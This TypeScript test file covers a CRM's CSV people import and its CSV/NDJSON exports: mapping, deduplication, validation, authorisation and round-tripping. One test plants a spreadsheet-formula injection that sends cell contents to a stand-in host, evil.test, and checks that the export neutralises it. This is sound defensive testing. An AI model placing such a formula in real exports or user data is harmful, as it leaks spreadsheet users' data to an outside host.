import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { getTimeline } from '../../src/server/timeline/service'
import { createDeal, createPerson, salesPipeline } from '../support/fixtures'
import { fixtureText } from '../support/inbound'
import { startTestServer, type TestServer } from '../support/server'

let server: TestServer
// A record's events, oldest first: its timeline read backwards.
const oldestFirst = async (id: string) =>
  (await getTimeline(server.db, server.tenantId, id)).reverse()
let gil: { id: string }

beforeAll(async () => {
  server = await startTestServer()
  gil = await createPerson(server.api, { fullName: 'Gil', primaryEmail: 'gil@prado.dev' })
})
afterAll(() => server.close())

async function upload(
  csv: string,
  mapping: unknown,
  extra: Record<string, string> = {},
  token = server.adminToken,
) {
  const form = new FormData()
  form.append('file', new Blob([csv], { type: 'text/csv' }), 'people.csv')
  form.append('mapping', typeof mapping === 'string' ? mapping : JSON.stringify(mapping))
  for (const [key, value] of Object.entries(extra)) form.append(key, value)
  const response = await fetch(`${server.url}/api/app/v1/imports/people`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}` },
    body: form,
  })
  return { status: response.status, body: (await response.json()) as any }
}

async function download(kind: 'people' | 'deals', format?: string) {
  const query = format ? `?format=${format}` : ''
  const response = await fetch(`${server.url}/api/app/v1/exports/${kind}${query}`, {
    headers: { Authorization: `Bearer ${server.adminToken}` },
  })
  return { status: response.status, headers: response.headers, text: await response.text() }
}

const settings = () => JSON.parse(fixtureText('people-import.mapping.json'))

async function findByEmail(email: string) {
  return server.db
    .selectFrom('people')
    .selectAll()
    .where('tenantId', '=', server.tenantId)
    .where('primaryEmail', '=', email)
    .executeTakeFirst()
}

describe('POST /api/app/v1/imports/people: CSV through the mapping and dedupe engine', () => {
  it('imports the good rows, updates people it matches, and rejects bad rows with their line numbers', async () => {
    const { status, body } = await upload(fixtureText('people-import.csv'), settings())
    expect(status).toBe(200)
    expect(body).toMatchObject({ rows: 9, created: 3, updated: 2, rejected: 4 })
    // One of the updates is the file's own repeat of a person, which the import names.
    expect(body.warnings).toEqual([
      'line 6 updated the person line 2 created: the file has them twice, and the later line stands',
    ])
    expect(body.rejections).toEqual([
      {
        line: 4,
        field: 'primaryEmail',
        code: 'validation_error',
        message: 'primaryEmail "not-an-email" is not an e-mail address',
      },
      expect.objectContaining({ line: 5, field: 'fullName', code: 'validation_error' }),
      expect.objectContaining({ line: 9, field: null, code: 'malformed_csv' }),
      expect.objectContaining({ line: 10, field: 'primaryPhone', code: 'validation_error' }),
    ])
    const ana = await findByEmail('ana@padaria-central.com.br')
    expect(ana).toMatchObject({ fullName: 'Ana Souza', primaryPhone: '+5511987654321' })
    expect(JSON.parse(ana!.customFields)).toEqual({ companySize: '10-50' })
    const anaTags = (await server.api.get(`/api/v1/people/${ana!.id}`)).body.tags
    expect(anaTags).toEqual(['vip', 'import', 'returning'])
    expect(ana!.companyId).not.toBeNull()
    expect((await findByEmail('dora@gmail.com'))?.fullName).toBe('Dora Multiline')
    expect((await findByEmail('bruno@gmail.com'))?.companyId).toBeNull()
    const updatedGil = (await server.api.get(`/api/v1/people/${gil.id}`)).body
    expect(updatedGil).toMatchObject({ fullName: 'Gil Prado', tags: ['import'] })
  })

  it('imported rows emit the events the REST API would', async () => {
    const ana = await findByEmail('ana@padaria-central.com.br')
    const events = await oldestFirst(ana!.id)
    expect(events.map((event) => event.type)).toEqual([
      'person.created',
      'person.tag_added',
      'person.tag_added',
      'person.updated',
      'person.tag_added',
    ])
  })

  it('the same file again creates nobody: every good row matches someone', async () => {
    const { body } = await upload(fixtureText('people-import.csv'), settings())
    expect(body).toMatchObject({ rows: 9, created: 0, updated: 5, rejected: 4 })
  })

  it('the dedupe field overrides the strategy: none creates, and refuses e-mails already taken', async () => {
    const csv = 'Name,E-mail\nNew One,new-one@import.dev\nGil Again,gil@prado.dev\n'
    const { body } = await upload(csv, settings(), { dedupe: 'none' })
    expect(body).toMatchObject({ created: 1, updated: 0, rejected: 1 })
    expect(body.rejections[0]).toMatchObject({ line: 3, code: 'conflict', field: 'primaryEmail' })
  })

  it('takes a bare mapping too, and warns about mapped columns the file lacks', async () => {
    const csv = 'Full name,Mail\nHana Mori,hana@import.dev\n'
    const { body } = await upload(csv, { fullName: '{{Full name}}', primaryEmail: '{{Email}}' })
    expect(body).toMatchObject({ created: 1, rejected: 0 })
    expect(body.warnings).toEqual(['Column "Email" (mapped to primaryEmail) is not in the file'])
  })

  it('says which line updated a person an earlier line of the same file created', async () => {
    const csv =
      'Name,Email\nRita Repeat,rita@repeat.dev\nOther One,other@repeat.dev\nRita Again,RITA@repeat.dev\n'
    const { body } = await upload(csv, { fullName: '{{Name}}', primaryEmail: '{{Email}}' })
    expect(body).toMatchObject({ rows: 3, created: 2, updated: 1, rejected: 0 })
    expect(body.warnings).toEqual([
      'line 4 updated the person line 2 created: the file has them twice, and the later line stands',
    ])
    expect((await findByEmail('rita@repeat.dev'))?.fullName).toBe('Rita Again')
  })

  it('400 for a mapping that is not JSON, or not a valid mapping; nothing is imported', async () => {
    const csv = 'Name\nNever Imported\n'
    const notJson = await upload(csv, '{fullName:')
    expect(notJson.status).toBe(400)
    expect(notJson.body.error.details.field).toBe('mapping')
    const badTarget = await upload(csv, { nickname: '{{Name}}' })
    expect(badTarget.status).toBe(400)
    expect(badTarget.body.error.details.field).toBe('mapping.nickname')
    expect(await findByEmail('never@import.dev')).toBeUndefined()
  })

  it('415 for an upload that is not multipart; 400 without a file', async () => {
    const response = await fetch(`${server.url}/api/app/v1/imports/people`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${server.adminToken}`, 'Content-Type': 'text/csv' },
      body: 'Name\nX\n',
    })
    expect(response.status).toBe(415)
    const form = new FormData()
    form.append('mapping', '{"fullName":"{{Name}}"}')
    const noFile = await fetch(`${server.url}/api/app/v1/imports/people`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${server.adminToken}` },
      body: form,
    })
    expect(noFile.status).toBe(400)
    expect(((await noFile.json()) as any).error.details.field).toBe('file')
  })

  it('401 without a token and 403 with an api token', async () => {
    expect((await upload('Name\n', settings(), {}, '')).status).toBe(401)
    expect((await upload('Name\n', settings(), {}, server.apiToken)).status).toBe(403)
  })
})

describe('GET /api/app/v1/exports/people and /deals', () => {
  it('CSV: a header, then every person oldest first, custom fields as columns, tags joined', async () => {
    const { status, headers, text } = await download('people')
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="outpost-people-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const rows: Record<string, string>[] = parse(text, { columns: true })
    const { body: list } = await server.api.get('/api/v1/people?pageSize=100')
    expect(rows).toHaveLength(list.total)
    expect(Object.keys(rows[0]!)).toEqual([
      'id',
      'fullName',
      'primaryEmail',
      'primaryPhone',
      'companyId',
      'ownerId',
      'lifecycleStage',
      'leadSource',
      'tags',
      'company',
      'owner',
      'customFields.companySize',
      'createdAt',
      'updatedAt',
    ])
    expect(rows[0]!.id).toBe(gil.id)
    const ana = rows.find((row) => row.primaryEmail === 'ana@padaria-central.com.br')
    expect(ana).toMatchObject({
      fullName: 'Ana Souza',
      tags: 'vip, import, returning',
      'customFields.companySize': '10-50',
      lifecycleStage: '',
    })
  })

  it('NDJSON: one person per line, as the API returns them', async () => {
    const { headers, text } = await download('people', 'ndjson')
    expect(headers.get('content-type')).toBe('application/x-ndjson')
    const lines = text.trimEnd().split('\n')
    const first = JSON.parse(lines[0]!)
    expect(first).toEqual((await server.api.get(`/api/v1/people/${gil.id}`)).body)
  })

  it('an export imports back unchanged: everyone with an e-mail matched, nobody created, no event', async () => {
    // Deduplication goes by e-mail: people without one would come back as new people.
    const rows = (parse((await download('people')).text, { columns: true }) as any[]).filter(
      (row) => row.primaryEmail,
    )
    const before = await server.db
      .selectFrom('events')
      .select((eb) => eb.fn.countAll<number>().as('count'))
      .executeTakeFirstOrThrow()
    const columns = ['fullName', 'primaryEmail', 'primaryPhone', 'companyId', 'ownerId', 'tags']
    const mapping = Object.fromEntries([
      ...columns.map((column) => [column, `{{${column}}}`]),
      ['customFields.companySize', '{{customFields.companySize}}'],
    ])
    const { body } = await upload(stringify(rows, { header: true }), { mapping })
    expect(body).toMatchObject({ created: 0, updated: rows.length, rejected: 0, warnings: [] })
    const after = await server.db
      .selectFrom('events')
      .select((eb) => eb.fn.countAll<number>().as('count'))
      .executeTakeFirstOrThrow()
    expect(after.count).toBe(before.count)
  })

  it('cells that would run as spreadsheet formulas are exported as text, and import back exact', async () => {
    const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    const person = await createPerson(server.api, {
      fullName: hostile,
      primaryEmail: 'formula@example.com',
      primaryPhone: '+55 11 91234-5678',
      tags: ['@risk'],
    })
    const rows: Record<string, string>[] = parse((await download('people')).text, { columns: true })
    const row = rows.find((candidate) => candidate.id === person.id)!
    expect(row.fullName).toBe(`'${hostile}`)
    expect(row.tags).toBe("'@risk")
    expect(row.primaryPhone).toBe('+5511912345678')

    await server.api.patch(`/api/v1/people/${person.id}`, {
      fullName: 'Changed meanwhile',
      tags: [],
    })
    const { body } = await upload(stringify([row], { header: true }), {
      mapping: { fullName: '{{fullName}}', primaryEmail: '{{primaryEmail}}', tags: '{{tags}}' },
    })
    expect(body).toMatchObject({ updated: 1, rejected: 0 })
    const { body: restored } = await server.api.get(`/api/v1/people/${person.id}`)
    expect(restored).toMatchObject({ fullName: hostile, tags: ['@risk'] })
  })

  it('deals: CSV and NDJSON', async () => {
    const pipeline = await salesPipeline(server.admin)
    const deal = await createDeal(server.api, pipeline, { title: 'Export me', value: 99.5 })
    const csv: Record<string, string>[] = parse((await download('deals')).text, { columns: true })
    expect(csv.at(-1)).toMatchObject({
      id: deal.id,
      title: 'Export me',
      value: '99.5',
      currency: 'BRL',
      pipelineId: pipeline.id,
      closedAt: '',
    })
    const ndjson = (await download('deals', 'ndjson')).text.trimEnd().split('\n')
    expect(JSON.parse(ndjson.at(-1)!)).toEqual(deal)
  })

  it('400 for an unknown format', async () => {
    const { status } = await download('people', 'xls')
    expect(status).toBe(400)
  })
})
